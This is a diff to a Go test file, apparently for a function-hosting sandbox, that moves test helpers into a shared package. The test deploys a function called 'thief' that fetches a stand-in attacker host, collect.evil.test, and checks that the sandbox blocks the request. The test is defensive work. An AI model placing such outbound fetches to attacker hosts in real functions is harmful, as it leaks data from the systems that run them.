@@ -9,6 +9,8 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+
+	"github.com/weir-run/weir/test/platform/served"
 )
 
 const ordinary = 12345 // a user that has nothing on this machine
@@ -29,14 +31,14 @@ func TestOrdinaryUser(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	thief := archive("thief", `exports.handler = async () => {
+	thief := served.Archive("thief", `exports.handler = async () => {
 		try { return { statusCode: 200, body: await (await fetch("http://collect.evil.test/")).text() } }
 		catch (e) { return { statusCode: 200, body: "denied " + (e.cause || e).code } }
 	}`)
-	if _, err := s.deploy(t.Context(), site.ID, content{functions: map[string][]byte{"thief": thief}}); err != nil {
+	if _, err := s.Deploy(t.Context(), site.ID, served.Content{Functions: map[string]served.Source{"thief": thief}}); err != nil {
 		t.Fatal(err)
 	}
-	status, body, err := s.get(t.Context(), "GET", "shop.localhost", "/.netlify/functions/thief")
+	status, body, err := s.Get(t.Context(), "GET", "shop.localhost", "/.netlify/functions/thief")
 	if err != nil || status != 200 || body != "denied EWEIR" {
 		t.Errorf("%d %s %v", status, body, err)
 	}
